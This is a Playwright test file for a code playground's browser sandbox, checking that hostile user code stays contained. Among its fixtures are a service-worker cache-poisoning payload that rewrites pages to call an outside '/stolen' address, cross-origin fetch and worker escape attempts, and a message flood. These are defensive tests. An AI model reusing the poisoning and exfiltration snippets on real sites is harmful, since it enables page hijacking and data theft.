// The playground's sandbox, attacked: by pages that frame its document, and by code that floods the page.

import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { deflateRawSync } from 'node:zlib';
import type { Page } from '@playwright/test';
import { expect, test } from '../browsers/fixtures.ts';
import type { Served } from '../browsers/server.ts';
import { serveStatic } from '../browsers/static-site.ts';
import { LONG, ONCE, RELEASE, REST } from '../browsers/tags.ts';

function hashOf(files: Readonly<Record<string, string>>): string {
  const packed = deflateRawSync(JSON.stringify({ name: 'A gift', files }));
  return `#code=${packed.toString('base64url')}`;
}

/** Code with a method `go`, and code before the class. */
const codeOf = (body: string, before = '') => ({
  'main.ts': `import { DurableObject } from 'cloudflare:workers';
${before}
export class A extends DurableObject { go() { ${body} } }
console.log('it runs');`,
});

/** Lets the code use the port that its worker speaks through. */
const HOOK = `const post = MessagePort.prototype.postMessage; const ports = new Set();
MessagePort.prototype.postMessage = function (...given) { ports.add(this); return post.apply(this, given); };`;

let links = 0;

async function openLink(page: Page, site: Served, files: Readonly<Record<string, string>>) {
  // Use another address each time: a changed hash alone would not load the page again.
  links += 1;
  await page.goto(`${site.origin}/index.html?${links}${hashOf(files)}`);
}

/** The site as Node reaches it. */
const addressOf = ({ origin }: Served) => `http://localhost:${new URL(origin).port}`;

const start = (page: Page) => page.getByRole('button', { name: 'Run in a sandbox' }).click();
const go = (page: Page) => page.getByRole('button', { name: 'go', exact: true }).click();
const log = (page: Page) => page.getByRole('list', { name: 'Entries, the newest first' });

/** The state of the sandbox directly after a click on Stop. */
const stopNow = (page: Page) =>
  page.getByRole('button', { name: 'Stop' }).evaluate((button: HTMLButtonElement) => {
    button.click();
    return document.querySelectorAll('iframe').length;
  });

/** A page that frames the document, gives it a worker, and keeps the worker's report of its origin. */
const FRAMING = `<!doctype html><title>Other</title><body><script>
window.heard = [];
window.frameIt = (address, isSandboxed) => new Promise((sent) => {
  const frame = document.createElement('iframe');
  if (isSandboxed) frame.setAttribute('sandbox', 'allow-scripts');
  frame.src = address;
  frame.onload = () => {
    const { port1, port2 } = new MessageChannel();
    port1.onmessage = ({ data }) => window.heard.push(data);
    const workerText = 'onmessage = ({ ports: [port] }) => port.postMessage(self.origin)';
    frame.contentWindow.postMessage({ workerText, wasm: new ArrayBuffer(8) }, '*', [port2]);
    sent();
  };
  document.body.append(frame);
});
</script>`;

declare global {
  interface Window {
    heard: string[];
    frameIt(address: string, isSandboxed: boolean): Promise<void>;
  }
}

test("[DEMO11] the sandbox's document runs a worker only without an origin, whoever frames it and however", async ({
  context,
  demoSite,
}) => {
  const answer = await fetch(`${addressOf(demoSite)}/sandbox.html`);
  const document = await answer.text();
  expect(answer.headers.get('content-security-policy')).toContain('sandbox allow-scripts');
  const headers = await fetch(`${addressOf(demoSite)}/_headers`).then((file) => file.text());
  // Cloudflare Pages leads the first path to the second.
  for (const path of ['/sandbox.html', '/sandbox']) {
    expect(headers).toContain(`${path}\n  Content-Security-Policy: sandbox allow-scripts`);
  }
  const read = () => document;
  const plain = await serveStatic(read);
  const withHeader = await serveStatic(read, {
    'content-security-policy': 'sandbox allow-scripts',
  });
  const other = await serveStatic(() => FRAMING);
  const page = await context.newPage();
  await page.goto(other.origin);
  const frame = (site: Served, isSandboxed: boolean) =>
    page.evaluate(([address, isSandboxed]) => window.frameIt(address, isSandboxed), [
      `${site.origin}/sandbox.html`,
      isSandboxed,
    ] as const);
  await frame(plain, false);
  for (const [site, isSandboxed] of [
    [plain, true],
    [withHeader, false],
    [withHeader, true],
  ] as const) {
    await frame(site, isSandboxed);
  }
  // The first has had the most time to answer.
  await expect.poll(() => page.evaluate(() => window.heard)).toEqual(['null', 'null', 'null']);
  for (const site of [plain, withHeader, other]) await site.close();
});

test('[DEMO12] code that loads for a minute is not given up; Stop ends it', {
  tag: [ONCE, REST],
}, async ({ profile, demoSite }) => {
  const page = await (await profile.launch()).newPage();
  await page.clock.install();
  await openLink(page, demoSite, codeOf('', "console.log('it loads'); for (;;);"));
  await start(page);
  const loading = page.getByText('Starting the objects…');
  await expect(loading).toBeVisible();
  await expect(page.locator('iframe')).toHaveCount(1);
  await page.clock.runFor(60_000);
  await expect(loading).toBeVisible();
  await expect(page.locator('iframe')).toHaveCount(1);
  expect(await stopNow(page)).toBe(0);
  await expect(page.getByText('This code has not run. Read it first.')).toBeVisible();
});

test('[DEMO12] code that sends the page too much is ended, and the page says why', {
  tag: [LONG, RELEASE],
}, async ({ context, demoSite }) => {
  const page = await context.newPage();
  const said = page.getByRole('alert');
  // Firefox delivers none of an endless loop.
  const flood = `for (let count = 0; count < 50_000; count++) for (const port of ports)
    post.call(port, { type: 'console', entry: { level: 'log', text: 'x', timeMs: 1 } });`;
  const sent = (message: string) => `for (const port of ports) post.call(port, ${message});`;
  for (const [body, fact] of [
    [flood, 'more than 1000 messages in one second'],
    [sent("{ type: 'socket', line: 'x'.repeat(1e6) }"), 'a text of 1000000 letters'],
    [sent('{ type: "proxy" }'), 'a message that the sandbox does not know'],
  ] as const) {
    await openLink(page, demoSite, codeOf(body, HOOK));
    await start(page);
    await go(page);
    await expect(said).toContainText(`The code was stopped. It sent ${fact}`);
    await expect(page.locator('iframe')).toHaveCount(0);
    await expect(log(page)).not.toContainText('waiting');
  }
});

test('[DEMO12] Stop ends whatever runs before it returns; long errors are shown', {
  tag: [LONG, RELEASE],
}, async ({ context, demoSite }) => {
  const page = await context.newPage();
  const letters = `const error = new Error('y'.repeat(1e6)); error.stack = 'x'.repeat(1e6); throw error;`;
  await openLink(page, demoSite, codeOf(letters));
  await start(page);
  await go(page);
  await expect(log(page)).toContainText('Error yyy');
  expect(await stopNow(page)).toBe(0);

  await openLink(page, demoSite, codeOf('for (;;);'));
  await start(page);
  await go(page);
  await expect(log(page)).toContainText('waiting');
  expect(await stopNow(page)).toBe(0);
  await expect(page.getByText('This code has not run. Read it first.')).toBeVisible();

  await openLink(page, demoSite, codeOf('', 'for (;;);'));
  await start(page);
  await expect(page.locator('iframe')).toHaveCount(1);
  expect(await stopNow(page)).toBe(0);
  await expect(page.getByText('This code has not run. Read it first.')).toBeVisible();
});

test('[DEMO12] a link of more code than can be shown at once is refused', {
  tag: [LONG, ONCE, RELEASE],
}, async ({ context, demoSite }) => {
  const page = await context.newPage();
  const many = Object.fromEntries(Array.from({ length: 60_000 }, (_, i) => [`f${i}.ts`, '']));
  for (const [files, fact] of [
    [Object.fromEntries(Object.entries(many).slice(0, 51)), 'at most 50 files'],
    [many, 'at most 200000 letters'],
    [{ 'main.ts': '('.repeat(200_001) }, 'at most 200000 letters'],
    [{ [`${'a'.repeat(81)}.ts`]: '' }, 'at most 80 letters'],
    [{ '<b>.ts': '' }, 'a name such as words.ts'],
  ] as const) {
    await openLink(page, demoSite, files);
    await expect(page.getByRole('alert').filter({ hasText: 'The link is refused' })).toContainText(
      fact,
    );
    await expect(page.getByText('Somebody shared this code')).toHaveCount(0);
  }
});

/** Serves the site on a host that sends no policies. */
async function serveBare(site: Served) {
  const server = createServer(async ({ url = '' }, response) => {
    if (url === '/speaks.js') {
      response.setHeader('content-type', 'text/javascript');
      return response.end('postMessage("it speaks")');
    }
    const answer = await fetch(addressOf(site) + url);
    response.statusCode = answer.status;
    response.setHeader('content-type', answer.headers.get('content-type') ?? 'text/plain');
    response.end(Buffer.from(await answer.arrayBuffer()));
  });
  await new Promise<void>((resolve) => server.listen(0, 'localhost', resolve));
  return {
    origin: `http://localhost:${(server.address() as AddressInfo).port}`,
    async close() {
      server.closeAllConnections();
      await new Promise((closed) => server.close(closed));
    },
  };
}

/** Stores what an earlier visit has left. */
async function store(
  page: Page,
  site: Served,
  kind: 'own' | 'kept',
  files: Readonly<Record<string, string>>,
): Promise<void> {
  await page.goto(`${site.origin}/icon.svg`);
  const project = { id: kind === 'own' ? 'sender' : 'kept-1', name: 'Stored', kind, files };
  await page.evaluate((text) => {
    localStorage.setItem('ctx-storage-playground', text);
  }, JSON.stringify(project));
}

/** Reports the requests that code in this origin can send, and from where. */
const SENDER = (other: string) => ({
  'main.ts': `import { DurableObject } from 'cloudflare:workers';
const attempt = async (name, action) => {
  try { return name + ': ' + (await action()); } catch { return name + ': refused'; }
};
const heardFrom = (worker) => new Promise((done, fail) => {
  worker.onmessage = ({ data }) => (data === null ? fail() : done(data));
  worker.onerror = fail;
});
export class Sender extends DurableObject {
  async send(script) {
    const at = ${JSON.stringify(other)};
    const nested = 'fetch(' + JSON.stringify(at) + ').then((a) => postMessage(a.status), () => postMessage(null))';
    return [
      await attempt('own site', async () => (await fetch(new URL('/index.html', self.origin))).status),
      await attempt('other site', async () => (await fetch(at)).status),
      await attempt('module', () => import(at)),
      await attempt('worker of a text', () => heardFrom(new Worker(URL.createObjectURL(new Blob([nested]))))),
      await attempt('worker of the site', () => heardFrom(new Worker(script))),
    ].join(', ');
  }
}`,
});

test('[DEMO13] code in this origin has a policy on a host that sends none, and so have the workers that it starts', {
  tag: REST,
}, async ({ context, demoSite }) => {
  const heard: string[] = [];
  const other = await serveStatic(
    (path) => {
      heard.push(path);
      return '';
    },
    { 'access-control-allow-origin': '*' },
  );
  const bare = await serveBare(demoSite);
  const { origin } = bare;
  const page = await context.newPage();
  await store(page, bare, 'own', SENDER(`${other.origin}/stolen.js`));
  await page.goto(`${origin}/index.html`);
  await page.getByLabel('script of send').fill(`${origin}/speaks.js`);
  await page.getByRole('button', { name: 'send', exact: true }).click();
  await expect(log(page).locator('.log-value')).toContainText(
    'own site: 200, other site: refused, module: refused, worker of a text: refused, worker of the site: refused',
  );
  expect(heard).toEqual([]);
  await page.goto('about:blank');
  await bare.close();
  await other.close();
});

/** Replaces what the service worker keeps: the document, and the headers of all else. */
const POISONER = (other: string) => {
  const inner = `(async () => {
    const href = ${JSON.stringify(other)};
    let count = 0;
    for (const name of await caches.keys()) {
      const cache = await caches.open(name);
      for (const request of await cache.keys()) {
        const kept = await cache.match(request);
        const isDocument = request.url.includes('/index.html');
        const own = '<!doctype html><title>Poisoned</title><script>fetch("' + href + '")</' + 'script>';
        const headers = { 'content-type': kept.headers.get('content-type'), refresh: '0;url=' + href };
        await cache.put(request, new Response(isDocument ? own : await kept.arrayBuffer(), { headers }));
        count += isDocument;
      }
    }
    postMessage(count);
  })()`;
  return {
    'main.ts': `import { DurableObject } from 'cloudflare:workers';
export class Poisoner extends DurableObject {
  poison() {
    const worker = new Worker(URL.createObjectURL(new Blob([${JSON.stringify(inner)}])));
    return new Promise((done) => (worker.onmessage = ({ data }) => done('documents: ' + data)));
  }
}`,
  };
};

test("[DEMO36] code in this origin cannot change the site's pages by the service worker's cache", {
  tag: LONG,
}, async ({ context, offlineDemoSite }) => {
  const heard: string[] = [];
  const other = await serveStatic((path) => {
    heard.push(path);
    return '';
  });
  const page = await context.newPage();
  await store(page, offlineDemoSite, 'own', POISONER(`${other.origin}/stolen`));
  await page.goto(`${offlineDemoSite.origin}/index.html`);
  await page.evaluate(() => navigator.serviceWorker.ready.then(() => {}));
  await page.getByRole('button', { name: 'poison', exact: true }).click();
  await expect(log(page).locator('.log-value')).toContainText('documents: 1');
  for (const path of ['index.html', '', 'notes.html']) {
    await page.goto(`${offlineDemoSite.origin}/${path}`);
    await expect(page).not.toHaveTitle('Poisoned');
    await expect(page.getByRole('navigation').first()).toBeVisible();
    expect(page.url()).toBe(`${offlineDemoSite.origin}/${path}`);
  }
  expect(heard).toEqual([]);
  // The lost files are cached again.
  await context.setOffline(true);
  await page.goto(`${offlineDemoSite.origin}/index.html`);
  await expect(page.getByRole('button', { name: 'poison', exact: true })).toBeVisible();
  await context.setOffline(false);
  await page.goto('about:blank');
  await other.close();
});

test("[DEMO4] inside another page's frame, kept code cannot be trusted", { tag: REST }, async ({
  context,
  demoSite,
}) => {
  const bare = await serveBare(demoSite);
  const other = await serveStatic(
    () =>
      `<!doctype html><title>Other</title><iframe src="${bare.origin}/index.html" width="900"></iframe>`,
  );
  const page = await context.newPage();
  await store(page, bare, 'kept', codeOf('return 1'));
  const trust = { name: 'Trust it: it can read everything stored on this site' };
  await page.goto(`${bare.origin}/index.html`);
  await expect(page.getByRole('button', trust)).toBeVisible();
  await page.goto(other.origin);
  const framed = page.frameLocator('iframe');
  await expect(framed.getByText('Somebody else wrote this code')).toBeVisible();
  await expect(framed.getByRole('button', trust)).toHaveCount(0);
  await page.goto('about:blank');
  await other.close();
  await bare.close();
});
